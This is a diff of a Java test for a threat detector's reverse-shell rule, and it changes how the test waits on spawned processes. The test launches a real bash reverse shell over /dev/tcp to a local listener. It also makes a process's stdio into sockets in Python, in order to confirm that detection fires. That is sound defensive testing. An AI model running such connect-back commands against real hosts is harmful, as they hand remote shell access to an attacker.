@@ -35,6 +35,7 @@ class ReverseShellLocalTest {
             String connectBack = "exec bash 0<>/dev/tcp/127.0.0.1/" + port + " 1>&0 2>&0";
             long shell = root.spawnNoWait(null, "bash", "-c", connectBack);
             try (Socket session = attacker.accept()) {
+                Tools.awaitExec(shell, bash, java.util.List.of("bash"));
                 Finding f = w.await(ThreatRule.REVERSE_SHELL.id());
                 Expect.threat(f, ThreatRule.REVERSE_SHELL, shell);
                 assertThat(f.subject().exe().path()).isEqualTo(bash);
@@ -96,7 +97,7 @@ class ReverseShellLocalTest {
                     "a, b = socket.socketpair()",
                     "[os.dup2(a.fileno(), fd) for fd in (0, 1, 2)]",
                     "os.execv('" + bash + "', ['bash', '-c', 'sleep 522; :'])"));
-            Tools.awaitExe(pid, bash);
+            Tools.awaitExec(pid, bash, java.util.List.of("bash", "-c", "sleep 522; :"));
             w.awaitProcess("522", Duration.ofSeconds(5));
             w.scanFor(Duration.ofSeconds(1));
             assertThat(w.last().process((int) pid).stdioSockets()).as("stdio is a socket").hasSize(3);
